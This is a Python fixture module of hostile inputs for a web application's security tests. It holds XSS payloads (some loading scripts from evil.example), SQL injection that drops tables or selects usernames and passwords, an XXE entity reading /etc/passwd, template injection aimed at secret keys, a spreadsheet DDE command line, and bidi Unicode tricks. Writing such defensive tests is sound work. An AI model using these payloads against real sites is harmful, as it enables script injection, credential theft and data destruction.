"""Hostile text for the security battery: XSS, injection and awkward Unicode.

Every payload is something an editor could paste into a text field (by mistake, or from a
compromised source). ``URL_PAYLOADS`` are valid http(s) URLs for the fields that validate
URLs; ``REFUSED_URLS`` must be refused by those fields.
"""

KB100 = 100 * 1024

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><script>alert(1)</script >",
    "<script type=module>import('//evil.example')</script>",
    '"><script>alert(document.cookie)</script>',
    "'><script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
    "<template><script>alert(1)</script></template>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert('xss')\">",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<a onclick=alert(1) href=#>click</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<p style=\"x:expression(alert(1))\">old IE</p>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<img/src/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
]

URL_SCHEMES = [
    "<a href=\"javascript:alert(1)\">link</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">link</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">link</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">leading space</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "[markdown link](javascript:alert(1))",
    "[markdown link](JAVASCRIPT:alert(1))",
    "[data link](data:text/html,<script>alert(1)</script>)",
    "![image](javascript:alert(1))",
    "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[ref link][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://example.org/\"onmouseover=\"alert(1)>",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=javascript:alert(1)><input type=submit></form>",
]

SVG = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
]

BROKEN_MARKUP = [
    "<p>unclosed <b>bold <i>italic",
    "</div></main></body></html>",
    "<!--",
    "-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>>alert(1)<</script>>",
    "<img src=\"x\" alt=\"unterminated",
    "<a href='x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;&amp;gt; double escaped",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<table><tr><td>cell",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "]]><x>",
    "\\\"; alert(1); //",
    "\"}]}; alert(1); //",
    "${alert(1)}",
    "`${alert(1)}`",
]

TEMPLATE_SYNTAX = [
    "{{ 7*7 }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "{% include 'base.html' %}",
    "{{ request.user.password }}",
    "{# comment #}",
    "{{",
    "{%",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
]

SQL = [
    "'; DROP TABLE programme_session; --",
    "\" OR \"1\"=\"1",
    "' OR 1=1 --",
    "1; SELECT * FROM auth_user",
    "Robert'); DROP TABLE Students;--",
    "%' AND 1=0 UNION SELECT username, password FROM auth_user --",
    "\\x00' ; --",
    "%%",
    "_%_",
]

FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]

UNICODE = [
    "\u202eevil.exe\u202c gpj.",
    "\u202d\u202e\u2066\u2067\u2068\u2069 bidi controls",
    "\u200b\u200c\u200d\ufeff zero-width",
    "Z\u0351\u0360\u0361a\u0310\u0352l\u0354\u0357g\u0342\u0346o\u0315\u031a combining",
    "e\u0301" * 50,
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇬🇧 😀",
    "😀" * 200,
    "\U0001f4a9 pile of poo",
    "مرحبا بكم في المؤتمر",
    "שלום עולם",
    "日本語のセッション名",
    "Ǆǅǆ ﬁ ﬂ ẞ",
    "\u2028line separator\u2029paragraph separator",
    "\x0b\x0c vertical tab and form feed",
    "\r\nCRLF\rCR",
    "tab\tseparated",
    "\ud7ff\ue000\uffff edge code points",
    "＜script＞alert(1)＜/script＞",
    "\u00a0non-breaking\u00a0spaces\u00a0",
]

MARKDOWN_TRAPS = [
    "*" * 2000,
    "[" * 2000 + "]" * 2000,
    "> " * 500 + "deep quote",
    "- " * 500 + "deep list",
    "`" * 1000,
    "<div markdown=\"1\"><script>alert(1)</script></div>",
    "```html\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
]

LONG = [
    "A" * KB100,
    "<script>alert(1)</script>" * (KB100 // 25),
    "😀" * (KB100 // 4),
    ("word " * 20 + "\n\n") * (KB100 // 102),
]

PAYLOADS = (
    SCRIPT_TAGS + EVENT_HANDLERS + URL_SCHEMES + SVG + BROKEN_MARKUP + TEMPLATE_SYNTAX + SQL
    + FORMULAS + UNICODE + MARKDOWN_TRAPS + LONG
)  # fmt: skip

URL_PAYLOADS = [
    "https://example.org/?q=<script>alert(1)</script>",
    "https://example.org/\"onmouseover=\"alert(1)",
    "https://example.org/'onfocus='alert(1)",
    "https://example.org/#</script><script>alert(1)</script>",
    "https://example.org/{{7*7}}/{%debug%}",
    "https://example.org/?id=1'%20OR%201=1--",
    "https://example.org/?a=1&b=<svg/onload=alert(1)>",
    "https://xn--80ak6aa92e.example/\u202eevil",
    "https://example.org/%0d%0aSet-Cookie:x=1",
    "http://example.org/=1+1",
]

REFUSED_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
]


def fit(text: str, max_length: int | None) -> str:
    """The payload cut to what the field holds, as the admin form would insist."""
    return text if max_length is None else text[:max_length]
